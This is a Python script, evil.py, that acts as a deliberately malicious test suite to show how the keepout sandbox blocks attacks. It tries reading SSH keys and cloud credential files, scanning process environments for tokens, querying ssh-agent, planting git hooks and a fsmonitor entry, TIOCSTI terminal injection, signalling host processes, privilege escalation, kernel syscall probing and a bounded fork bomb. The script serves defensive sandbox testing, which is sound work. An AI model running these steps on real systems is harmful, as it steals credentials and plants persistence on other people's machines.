#!/usr/bin/env python3
"""evil.py - a deliberately malicious "test suite" for the keepout demo.

It plays the part of a test suite in a bug reporter's repository.  When a
maintainer runs it, it tries the real attacks from keepout's threat model
(A1..A12), one per line, and prints what it got.  `keepout demo` runs it
twice: once without the sandbox against a planted fake home (nearly every
line should say GOT) and once inside the sandbox (every line should be
blocked or skipped).

It never does real harm:
  * writes are marker lines only ("# keepout-demo-was-here"), and an existing
    git hook is appended to, never replaced;
  * the only signal sent goes to the pid given with --host-pid;
  * the fork test is bounded (5000 children that exit within 10 s) and reaped;
  * the /tmp fill is bounded (64 MiB) and deleted;
  * the tmpfs mount goes on a fresh temporary directory and is unmounted;
  * secrets are never printed in full: first 4 characters, "…", length.

Python 3 standard library only.  Exit status = number of attacks that
succeeded ("got"), capped at 100; 0 means everything was blocked.
"""

import argparse
import ctypes
import ctypes.util
import errno
import fcntl
import json
import os
import platform
import select
import shutil
import signal
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time

MARKER = "# keepout-demo-was-here"

# --------------------------------------------------------------------------
# output helpers
# --------------------------------------------------------------------------

RESULTS = []
JSON_MODE = False


class Skip(Exception):
    """Raised by an attack that does not apply here (outcome "skipped")."""


def clean(text, limit=110):
    """Make a detail string single-line, printable and short."""
    out = []
    for ch in str(text):
        if ch in "\r\n\t":
            out.append(" ")
        elif ch.isprintable():
            out.append(ch)
        else:
            out.append("?")
    s = "".join(out).strip()
    if len(s) > limit:
        s = s[: limit - 1] + "…"
    return s


def mask(data):
    """First 4 characters of a secret, then an ellipsis and the length."""
    if isinstance(data, bytes):
        n = len(data)
        head = data[:16].decode("utf-8", "replace")
    else:
        n = len(data.encode("utf-8", "replace"))
        head = data
    head = "".join(c if c.isprintable() and c not in "\r\n\t" else "?" for c in head[:4])
    return f"{head}… ({n} bytes)"


def fmt_exc(e):
    if isinstance(e, FileNotFoundError):
        return "(FileNotFoundError)"
    if isinstance(e, TimeoutError) and not e.errno:
        return f"(TimeoutError: {e or 'timed out'})"
    if isinstance(e, OSError) and e.errno:
        return f"({type(e).__name__}: [Errno {e.errno}] {e.strerror})"
    return f"({type(e).__name__}: {e})"


def report(aid, label, outcome, detail=""):
    rec = {"id": aid, "attack": label, "outcome": outcome, "detail": clean(detail)}
    RESULTS.append(rec)
    if not JSON_MODE:
        shown = "GOT" if outcome == "got" else outcome
        print(f"{aid:<4}{clean(label, 40):<41}{shown:<9}{rec['detail']}", flush=True)


def attempt(aid, label, fn):
    """Run one attack.  fn() returns (outcome, detail) or raises.

    Any exception means the attack did not get what it wanted -> "blocked";
    Skip means the attack does not apply here -> "skipped"."""
    try:
        outcome, detail = fn()
    except Skip as e:
        outcome, detail = "skipped", str(e)
    except BaseException as e:  # noqa: BLE001 - one failure must never stop the suite
        if isinstance(e, KeyboardInterrupt):
            raise
        outcome, detail = "blocked", fmt_exc(e)
    report(aid, label, outcome, detail)


def run_with_timeout(fn, seconds):
    """Run fn in a daemon thread; raise TimeoutError if it takes too long."""
    box = {}

    def target():
        try:
            box["value"] = fn()
        except BaseException as e:  # noqa: BLE001
            box["error"] = e

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(seconds)
    if t.is_alive():
        raise TimeoutError(f"no answer within {seconds} s")
    if "error" in box:
        raise box["error"]
    return box["value"]


def read_bounded(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


# --------------------------------------------------------------------------
# raw syscalls (ctypes)
# --------------------------------------------------------------------------

SYSCALLS = {
    "x86_64": {"keyctl": 250, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323,
               "io_uring_setup": 425, "personality": 135, "unshare": 272},
    "aarch64": {"keyctl": 219, "bpf": 280, "perf_event_open": 241, "userfaultfd": 282,
                "io_uring_setup": 425, "personality": 92, "unshare": 97},
}
ARCH = platform.machine()
_libc = None


def libc():
    global _libc
    if _libc is None:
        _libc = ctypes.CDLL(None, use_errno=True)
        _libc.syscall.restype = ctypes.c_long
    return _libc


def syscall(name, *args):
    """Return (ret, errno) of a raw syscall."""
    table = SYSCALLS.get(ARCH)
    if table is None:
        raise Skip(f"no syscall table for {ARCH}")
    ctypes.set_errno(0)
    ret = libc().syscall(ctypes.c_long(table[name]), *[ctypes.c_long(a) for a in args])
    return ret, ctypes.get_errno()


# --------------------------------------------------------------------------
# credential heuristics (A2)
# --------------------------------------------------------------------------

NAME_HINTS = ("TOKEN", "SECRET", "PASSWORD", "PASSWD", "API_KEY", "APIKEY", "AUTH", "CREDENTIAL")
NAME_EXCLUDE = {"SSH_AUTH_SOCK"}  # a socket path, attacked separately in A3
VALUE_PREFIXES = ("ghp_", "gho_", "ghu_", "ghs_", "github_pat_", "pypi-", "npm_", "AKIA",
                  "ASIA", "glpat-", "xoxb-", "xoxp-")


def find_credentials(pairs):
    hits = []
    for name, value in pairs:
        if name in NAME_EXCLUDE or not value:
            continue
        upper = name.upper()
        if any(h in upper for h in NAME_HINTS) or value.startswith(VALUE_PREFIXES):
            hits.append((name, value))
    return hits


def describe_hits(hits, total):
    shown = ", ".join(f"{n}={mask(v)}" for n, v in hits[:2])
    more = f" +{len(hits) - 2} more" if len(hits) > 2 else ""
    return f"{len(hits)} of {total} vars: {shown}{more}"


def parse_environ_blob(blob):
    pairs = []
    for item in blob.split(b"\0"):
        if b"=" in item:
            k, _, v = item.partition(b"=")
            pairs.append((k.decode("utf-8", "replace"), v.decode("utf-8", "replace")))
    return pairs


# --------------------------------------------------------------------------
# the attacks
# --------------------------------------------------------------------------

CRED_FILES = [".ssh/id_ed25519", ".ssh/id_rsa", ".netrc", ".git-credentials", ".pypirc",
              ".config/gh/hosts.yml", ".cargo/credentials.toml", ".npmrc",
              ".aws/credentials", ".docker/config.json"]


def a1_credentials(home):
    for rel in CRED_FILES:
        path = os.path.join(home, rel)

        def steal(path=path):
            data = read_bounded(path)
            return "got", mask(data)

        attempt("A1", f"read ~/{rel}", steal)

    def list_home():
        names = sorted(os.listdir(home))
        if not names:
            return "blocked", "empty: not the victim's home"
        return "got", f"{len(names)} entries: " + ", ".join(names[:8]) + (" …" if len(names) > 8 else "")

    attempt("A1", "list ~/", list_home)


def a2_environment():
    def scan_env():
        hits = find_credentials(os.environ.items())
        if hits:
            return "got", describe_hits(hits, len(os.environ))
        return "blocked", f"no credential-like vars among {len(os.environ)}"

    attempt("A2", "scan own environment", scan_env)

    for label, pid in (("read /proc/1/environ", 1), ("read the parent's /proc/PPID/environ", os.getppid())):

        def scan_proc(pid=pid):
            pairs = parse_environ_blob(read_bounded(f"/proc/{pid}/environ"))
            hits = find_credentials(pairs)
            if hits:
                return "got", describe_hits(hits, len(pairs))
            return "blocked", f"pid {pid}: nothing credential-like among {len(pairs)} vars"

        attempt("A2", label, scan_proc)


def ssh_agent_identities(path):
    """Connect to an ssh-agent socket and ask for its identities."""
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        s.sendall(struct.pack(">IB", 1, 11))  # SSH_AGENTC_REQUEST_IDENTITIES
        buf = b""
        while len(buf) < 4:
            chunk = s.recv(4 - len(buf))
            if not chunk:
                return "got", "connected, agent closed without answering"
            buf += chunk
        (length,) = struct.unpack(">I", buf)
        body = b""
        want = min(length, 9)
        while len(body) < want:
            chunk = s.recv(want - len(body))
            if not chunk:
                break
            body += chunk
        if body[:1] == b"\x0c" and len(body) >= 5:  # SSH_AGENT_IDENTITIES_ANSWER
            (count,) = struct.unpack(">I", body[1:5])
            return "got", f"agent answered: {count} identities usable for signing"
        return "got", f"connected, agent replied type {body[:1].hex() or '?'}"
    finally:
        s.close()


def connect_abstract(name):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect("\0" + name)
        return "got", f"connected to @{name}"
    finally:
        s.close()


def a3_sockets(agent_sock, abstract_sock=None):
    if agent_sock:
        attempt("A3", "ssh-agent at --agent-sock", lambda: ssh_agent_identities(agent_sock))
    else:
        report("A3", "ssh-agent at --agent-sock", "skipped", "no --agent-sock given")

    env_sock = os.environ.get("SSH_AUTH_SOCK")
    if env_sock:
        attempt("A3", "ssh-agent at $SSH_AUTH_SOCK", lambda: ssh_agent_identities(env_sock))
    else:
        report("A3", "ssh-agent at $SSH_AUTH_SOCK", "skipped", "SSH_AUTH_SOCK not set")

    runtime_dirs = [f"/run/user/{os.getuid()}"]
    xdg = os.environ.get("XDG_RUNTIME_DIR")
    if xdg and os.path.normpath(xdg) != runtime_dirs[0]:
        runtime_dirs.append(xdg)
    for d in runtime_dirs:
        def list_runtime(d=d):
            names = sorted(os.listdir(d))
            return "got", f"{len(names)} entries: " + ", ".join(names[:8]) + (" …" if len(names) > 8 else "")

        attempt("A3", "list /run/user/UID" if d.startswith("/run/user/") else "list $XDG_RUNTIME_DIR", list_runtime)

    attempt("A3", "abstract socket @/tmp/.X11-unix/X0", lambda: connect_abstract("/tmp/.X11-unix/X0"))

    demo = abstract_sock or os.environ.get("KEEPOUT_DEMO_ABSTRACT")
    if demo:
        name = demo[1:] if demo[:1] in ("@", "\0") else demo
        attempt("A3", "abstract socket $KEEPOUT_DEMO_ABSTRACT", lambda: connect_abstract(name))
    else:
        report("A3", "abstract socket $KEEPOUT_DEMO_ABSTRACT", "skipped", "no --abstract-sock, KEEPOUT_DEMO_ABSTRACT not set")


def append_marker(path, text):
    with open(path, "a") as f:
        f.write(text)
    return "got", f"wrote {len(text)} bytes to {path}"


def a4_persistence(home, project):
    for rel in (".bashrc", ".profile"):
        attempt("A4", f"append ~/{rel}", lambda rel=rel: append_marker(os.path.join(home, rel), MARKER + "\n"))

    def autostart():
        d = os.path.join(home, ".config", "autostart")
        os.makedirs(d, exist_ok=True)
        path = os.path.join(d, "evil.desktop")
        with open(path, "w") as f:
            f.write("[Desktop Entry]\nType=Application\nName=keepout-demo\n"
                    f"Exec=/bin/true\nComment={MARKER}\n")
        return "got", f"created {path}"

    attempt("A4", "create ~/.config/autostart/evil.desktop", autostart)

    gitdir = os.path.join(project, ".git")

    def need_gitdir():
        if not os.path.isdir(gitdir):
            raise Skip("project has no .git directory")

    def hook():
        need_gitdir()
        hooks = os.path.join(gitdir, "hooks")
        os.makedirs(hooks, exist_ok=True)
        path = os.path.join(hooks, "pre-commit")
        if os.path.lexists(path):  # never replace a real hook: append a comment only
            with open(path, "a") as f:
                f.write("\n" + MARKER + "\n")
            how = "appended marker to existing"
        else:
            with open(path, "w") as f:
                f.write(f"#!/bin/sh\n{MARKER}\nexit 0\n")
            how = "created"
        os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        return "got", f"{how} executable .git/hooks/pre-commit"

    attempt("A4", "write .git/hooks/pre-commit", hook)

    def fsmonitor():
        need_gitdir()
        return append_marker(os.path.join(gitdir, "config"),
                             f"{MARKER}\n[core]\n\tfsmonitor = echo pwned\n")

    attempt("A4", "append fsmonitor to .git/config", fsmonitor)
    attempt("A4", "create/append .envrc",
            lambda: append_marker(os.path.join(project, ".envrc"), MARKER + "\n"))


TIOCSTI = 0x5412
TIOCLINUX = 0x541C
TIOCL_GETSHIFTSTATE = 6  # harmless read-only TIOCLINUX subcode: proves the VT ioctl is reachable


def a5_terminal():
    tty_fd, tty_err = None, None
    try:
        tty_fd = os.open("/dev/tty", os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        tty_err = e
    try:
        stdin_tty = False
        try:
            stdin_tty = os.isatty(0)
        except OSError:
            pass
        if not stdin_tty and tty_fd is None:
            why = f"no terminal (stdin not a tty; /dev/tty: {fmt_exc(tty_err).strip('()')})"
            for label in ("TIOCSTI on stdin", "TIOCSTI on /dev/tty", "TIOCLINUX on stdin"):
                report("A5", label, "skipped", why)
            return

        def inject(fd, request, arg, ok):
            def go():
                if fd is None:
                    raise Skip(f"no terminal (/dev/tty: {fmt_exc(tty_err).strip('()')})")
                if not os.isatty(fd):
                    raise Skip("no terminal (stdin not a tty)")
                fcntl.ioctl(fd, request, arg)
                return "got", ok
            return go

        attempt("A5", "TIOCSTI on stdin",
                inject(0, TIOCSTI, b"x", "ioctl succeeded: pushed 'x' into the terminal's input"))
        attempt("A5", "TIOCSTI on /dev/tty",
                inject(tty_fd, TIOCSTI, b"x", "ioctl succeeded: pushed 'x' into the terminal's input"))
        attempt("A5", "TIOCLINUX on stdin",
                inject(0, TIOCLINUX, bytes([TIOCL_GETSHIFTSTATE]) + b"\0" * 7,
                       "ioctl succeeded: virtual-console control reachable"))
    finally:
        if tty_fd is not None:
            os.close(tty_fd)


def a6_processes(host_pid):
    if host_pid:
        def read_env():
            pairs = parse_environ_blob(read_bounded(f"/proc/{host_pid}/environ"))
            hits = find_credentials(pairs)
            extra = "; " + describe_hits(hits, len(pairs)) if hits else ""
            return "got", f"{len(pairs)} vars readable{extra}"

        attempt("A6", "read the host process's environ", read_env)
    else:
        report("A6", "read the host process's environ", "skipped", "no --host-pid given")

    def find_sleepers():
        me = os.getpid()
        found = []
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == me:
                continue
            try:
                cmd = read_bounded(f"/proc/{entry}/cmdline", 4096)
            except OSError:
                continue
            if b"sleep" in cmd:
                text = cmd.replace(b"\0", b" ").decode("utf-8", "replace").strip()
                found.append(f"{entry}:{text[:30]}")
        if found:
            return "got", f"{len(found)} found: " + "; ".join(found[:3]) + (" …" if len(found) > 3 else "")
        return "blocked", "no 'sleep' process visible"

    attempt("A6", "find 'sleep' processes in /proc", find_sleepers)

    if not host_pid:
        report("A6", "kill -0 the host process", "skipped", "no --host-pid given")
        report("A6", "SIGTERM the host process", "skipped", "no --host-pid given")
        return
    probe = {"ok": False}

    def kill0():
        os.kill(host_pid, 0)
        probe["ok"] = True
        return "got", f"pid {host_pid} exists and may be signalled"

    attempt("A6", "kill -0 the host process", kill0)

    def term():
        if not probe["ok"]:
            raise Skip("kill -0 failed, not trying SIGTERM")
        os.kill(host_pid, signal.SIGTERM)
        return "got", f"SIGTERM delivered to pid {host_pid}"

    if probe["ok"]:
        attempt("A6", "SIGTERM the host process", term)
    else:
        report("A6", "SIGTERM the host process", "blocked", "not attempted: kill -0 failed")


def host_uid_of(uid):
    """Map a uid of our user namespace to the initial namespace, if we can tell."""
    try:
        with open("/proc/self/uid_map") as f:
            lines = [l.split() for l in f if l.strip()]
    except OSError:
        return None, None
    initial = lines == [["0", "0", "4294967295"]]
    for inside, outside, count in ((int(a), int(b), int(c)) for a, b, c in lines):
        if inside <= uid < inside + count:
            return outside + (uid - inside), initial
    return None, initial


def in_child(fn, timeout=5):
    """Run fn() in a forked child (so it cannot change this process); return its int result pair."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                res = fn()
            except BaseException:  # noqa: BLE001
                res = (-1, 0)
            os.write(w, struct.pack("<qq", *res))
        finally:
            os._exit(0)
    os.close(w)
    data = b""
    try:
        ready, _, _ = select.select([r], [], [], timeout)
        data = os.read(r, 16) if ready else b""
    finally:
        os.close(r)
        if not data:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        os.waitpid(pid, 0)
    if len(data) != 16:
        raise TimeoutError("child gave no answer")
    return struct.unpack("<qq", data)


def a7_privilege():
    def sudo():
        if not shutil.which("sudo"):
            raise Skip("sudo not installed")
        p = subprocess.run(["sudo", "-n", "true"], stdin=subprocess.DEVNULL,
                           stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=5)
        if p.returncode == 0:
            return "got", "passwordless sudo works"
        return "blocked", f"exit {p.returncode}: " + p.stderr.decode("utf-8", "replace").strip()[:80]

    attempt("A7", "sudo -n true", sudo)

    def setuid0():
        before = os.geteuid()
        os.setuid(0)
        host_uid, initial = host_uid_of(0)
        if host_uid == 0 and initial:
            if before == 0:
                return "got", "already real root (uid 0 in the initial user namespace)"
            return "got", f"euid {before} -> 0 in the initial user namespace"
        return "blocked", f"uid 0 only inside a user namespace (host uid {host_uid})"

    attempt("A7", "setuid(0)", setuid0)

    def unshare_userns():
        # In a child: a successful unshare(CLONE_NEWUSER) would drop this
        # process's capabilities in the parent namespace and spoil later tests.
        ret, err = in_child(lambda: syscall("unshare", 0x10000000))
        if ret == 0:
            return "got", "new user namespace created (full caps inside it)"
        if ret == -1 and err == 0:
            raise Skip("syscall wrapper failed in child")
        return "blocked", f"(errno {err}: {os.strerror(err)})"

    attempt("A7", "unshare(CLONE_NEWUSER)", unshare_userns)

    def mount_tmpfs():
        # On a fresh temp dir rather than /mnt, so a success hides nothing.
        target = tempfile.mkdtemp(prefix="keepout-demo-mnt-")
        try:
            c = libc()
            c.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p,
                                ctypes.c_ulong, ctypes.c_void_p]
            c.umount2.argtypes = [ctypes.c_char_p, ctypes.c_int]
            ctypes.set_errno(0)
            ret = c.mount(b"none", target.encode(), b"tmpfs", 0, None)
            err = ctypes.get_errno()
            if ret == 0:
                c.umount2(target.encode(), 2)  # MNT_DETACH
                return "got", f"mounted tmpfs on {target} (unmounted again)"
            return "blocked", f"(errno {err}: {os.strerror(err)})"
        finally:
            try:
                os.rmdir(target)
            except OSError:
                pass

    attempt("A7", "mount tmpfs", mount_tmpfs)


# "Reachable" counts as got for A8: EFAULT/EINVAL/E2BIG mean the kernel ran
# the syscall's own code (argument parsing, copy_from_user) before failing on
# our deliberately bogus arguments - i.e. that attack surface is exposed, and
# an exploit would simply pass real arguments.  EPERM/EACCES/ENOSYS mean a
# seccomp filter, LSM or sysctl stopped us before the syscall's code ran.
REACHABLE = {errno.EFAULT, errno.EINVAL, errno.E2BIG}


def a8_kernel():
    if ARCH not in SYSCALLS:
        for name in ("keyctl", "bpf", "perf_event_open", "userfaultfd", "io_uring_setup", "personality"):
            report("A8", name, "skipped", f"no syscall numbers for {ARCH}")
        return

    def judge(ret, err, ok_detail):
        if ret >= 0:
            return "got", ok_detail(ret)
        if err in REACHABLE:
            return "got", f"reachable (errno {err}: {os.strerror(err)})"
        return "blocked", f"(errno {err}: {os.strerror(err)})"

    def keyctl():
        ret, err = syscall("keyctl", 0, -3, 0)  # KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING
        return judge(ret, err, lambda r: f"session keyring id {r}")

    def bpf():
        ret, err = syscall("bpf", 0, 0, 0)  # BPF_MAP_CREATE, NULL, 0
        if ret >= 0:
            os.close(ret)
        return judge(ret, err, lambda r: "map created")

    def perf():
        ret, err = syscall("perf_event_open", 0, 0, -1, -1, 0)  # NULL attr
        if ret >= 0:
            os.close(ret)
        return judge(ret, err, lambda r: "perf event fd opened")

    def uffd():
        ret, err = syscall("userfaultfd", 0)
        if ret >= 0:
            os.close(ret)
        return judge(ret, err, lambda r: "userfaultfd created")

    def uring():
        ret, err = syscall("io_uring_setup", 1, 0)  # entries 1, NULL params
        if ret >= 0:
            os.close(ret)
        return judge(ret, err, lambda r: "io_uring created")

    def persona():
        ret, err = syscall("personality", 0x0040000)  # PER_LINUX | ADDR_NO_RANDOMIZE
        if ret >= 0:
            syscall("personality", ret)  # restore
        return judge(ret, err, lambda r: "ASLR could be disabled for exec'd children (restored)")

    attempt("A8", "keyctl(GET_KEYRING_ID, session)", keyctl)
    attempt("A8", "bpf(BPF_MAP_CREATE)", bpf)
    attempt("A8", "perf_event_open(NULL)", perf)
    attempt("A8", "userfaultfd(0)", uffd)
    attempt("A8", "io_uring_setup(1, NULL)", uring)
    attempt("A8", "personality(ADDR_NO_RANDOMIZE)", persona)


def a9_network(host_port):
    if host_port:
        def local_service():
            s = socket.create_connection(("127.0.0.1", host_port), timeout=2)
            try:
                banner = b""
                try:
                    s.settimeout(1)
                    banner = s.recv(256)
                except (socket.timeout, TimeoutError):
                    pass
                if not banner:  # maybe an HTTP server: speak first
                    s.settimeout(2)
                    s.sendall(b"HEAD / HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
                    try:
                        banner = s.recv(256)
                    except (socket.timeout, TimeoutError):
                        pass
                line = banner.split(b"\n", 1)[0].decode("utf-8", "replace").strip()
                return "got", f"connected; banner: {line[:60]!r}" if line else "connected (no banner)"
            finally:
                s.close()

        attempt("A9", "connect a host service on 127.0.0.1", local_service)
    else:
        report("A9", "connect a host service on 127.0.0.1", "skipped", "no --host-port given")

    def dns():
        infos = run_with_timeout(lambda: socket.getaddrinfo("pypi.org", 443, proto=socket.IPPROTO_TCP), 3)
        addrs = sorted({i[4][0] for i in infos})
        return "got", "resolved to " + ", ".join(addrs[:3]) + " (DNS is an exfiltration channel)"

    attempt("A9", "DNS lookup pypi.org (exfil channel)", dns)

    def outbound():
        s = socket.create_connection(("1.1.1.1", 53), timeout=2)
        s.close()
        return "got", "TCP connection to the internet established"

    attempt("A9", "connect 1.1.1.1:53 (internet)", outbound)


def snapshot_fds():
    """Inherited descriptors >= 3, taken at start-up before we open anything."""
    fds = {}
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            fds[fd] = os.readlink(f"/proc/self/fd/{name}")
        except FileNotFoundError:
            continue  # the descriptor listdir itself used, already closed
        except OSError as e:
            fds[fd] = fmt_exc(e)
    return fds


def a10_fds(fds):
    if not fds:
        report("A10", "inherited fds >= 3", "blocked", "no inherited descriptors >= 3")
        return
    def peek():
        details = []
        for fd, target in sorted(fds.items()):
            detail = f"fd {fd} -> {target}"
            try:
                st = os.fstat(fd)
                if stat.S_ISREG(st.st_mode):
                    data = os.pread(fd, 4096, 0)
                    detail += f"; contents {mask(data)}" if data else "; empty file"
            except OSError:
                pass
            details.append(detail)
        return "got", "; ".join(details)

    attempt("A10", "inherited fds >= 3", peek)


FORK_LIMIT = 5000


def a11_resources():
    def fork_test():
        # Children wait (at most 10 s) until we close the pipe, so every one is
        # alive at the same time and the count measures the real process limit.
        r, w = os.pipe()
        pids, failure = [], None
        try:
            for _ in range(FORK_LIMIT):
                try:
                    pid = os.fork()
                except OSError as e:
                    failure = e
                    break
                if pid == 0:
                    try:
                        os.close(w)
                        select.select([r], [], [], 10)
                    finally:
                        os._exit(0)
                pids.append(pid)
        finally:
            os.close(w)
            os.close(r)
            for pid in pids:
                try:
                    os.waitpid(pid, 0)
                except ChildProcessError:
                    pass
        if failure is None:
            return "got", f"all {FORK_LIMIT} forks succeeded (reaped)"
        return "blocked", f"stopped after {len(pids)} forks {fmt_exc(failure)}"

    attempt("A11", f"fork {FORK_LIMIT} children", fork_test)

    def fill_tmp():
        chunk = b"\0" * (1 << 20)
        written, err = 0, None
        fd, path = tempfile.mkstemp(prefix="keepout-demo-fill-", dir="/tmp")
        try:
            try:
                for _ in range(64):
                    os.write(fd, chunk)
                    written += 1
            except OSError as e:
                err = e
        finally:
            os.close(fd)
            os.unlink(path)
        tail = f", then {fmt_exc(err)}" if err else ""
        return "info", f"wrote {written} MiB to /tmp{tail} (file deleted)"

    attempt("A11", "fill /tmp (64 MiB max)", fill_tmp)


def a12_paths(home, project):
    key = os.path.join(home, ".ssh", "id_ed25519")

    def via_symlink():
        link = os.path.join(project, "evil-link")
        if os.path.lexists(link):
            if not os.path.islink(link):
                raise Skip(f"{link} exists and is not a symlink")
            os.unlink(link)
        os.symlink(key, link)
        try:
            return "got", mask(read_bounded(link))
        finally:
            os.unlink(link)

    attempt("A12", "read via symlink evil-link", via_symlink)

    attempt("A12", "read /proc/self/root/~/.ssh/id_ed25519",
            lambda: ("got", mask(read_bounded("/proc/self/root" + key))))

    dotdot = os.path.join(project, "../" * 10) + home.lstrip("/") + "/.netrc"
    attempt("A12", "read project/../../…/~/.netrc", lambda: ("got", mask(read_bounded(dotdot))))


# --------------------------------------------------------------------------


def main():
    global JSON_MODE
    inherited = snapshot_fds()  # first, before anything opens descriptors

    ap = argparse.ArgumentParser(description="A malicious 'test suite' for the keepout demo.")
    ap.add_argument("--victim-home", default=os.environ.get("HOME", "/root"),
                    help="the maintainer's home as an attacker would guess it (default: $HOME)")
    ap.add_argument("--project", default=os.getcwd(), help="the project directory (default: cwd)")
    ap.add_argument("--agent-sock", help="path of the maintainer's ssh-agent socket")
    ap.add_argument("--host-pid", type=int, help="a process of the maintainer to signal")
    ap.add_argument("--host-port", type=int, help="a TCP service of the maintainer on 127.0.0.1")
    ap.add_argument("--json", action="store_true", help="print a JSON list instead of the table")
    ap.add_argument("--json-out", metavar="FILE", help="also write the JSON list to FILE")
    ap.add_argument("--abstract-sock", metavar="NAME",
                    help="an abstract unix socket of the maintainer (attackers list them in /proc/net/unix); "
                         "default: $KEEPOUT_DEMO_ABSTRACT")
    args = ap.parse_args()
    JSON_MODE = args.json

    try:
        sys.stdout.reconfigure(errors="replace")
    except (AttributeError, ValueError):
        pass

    home = os.path.abspath(args.victim_home)
    project = os.path.abspath(args.project)

    if not JSON_MODE:
        print(f"evil test suite: victim home {home}, project {project}, pid {os.getpid()}, uid {os.getuid()}",
              flush=True)

    steps = [
        lambda: a1_credentials(home),
        a2_environment,
        lambda: a3_sockets(args.agent_sock, args.abstract_sock),
        lambda: a4_persistence(home, project),
        a5_terminal,
        lambda: a6_processes(args.host_pid),
        a7_privilege,
        a8_kernel,
        lambda: a9_network(args.host_port),
        lambda: a10_fds(inherited),
        a11_resources,
        lambda: a12_paths(home, project),
    ]
    for n, step in enumerate(steps, 1):
        try:
            step()
        except KeyboardInterrupt:
            raise
        except BaseException as e:  # noqa: BLE001 - a bug in one class must not stop the rest
            report(f"A{n}", "(internal error)", "blocked", fmt_exc(e))

    got = sum(1 for r in RESULTS if r["outcome"] == "got")
    tried = sum(1 for r in RESULTS if r["outcome"] in ("got", "blocked"))
    if args.json_out:
        with open(args.json_out, "w") as f:
            json.dump(RESULTS, f, ensure_ascii=False, indent=1)
    if JSON_MODE:
        print(json.dumps(RESULTS, ensure_ascii=False, indent=1))
    else:
        skipped = sum(1 for r in RESULTS if r["outcome"] == "skipped")
        print(f"{got} of {tried} attacks succeeded ({skipped} skipped)", flush=True)
    sys.stdout.flush()
    os._exit(min(got, 100))  # os._exit: do not wait for a hung DNS thread


if __name__ == "__main__":
    main()
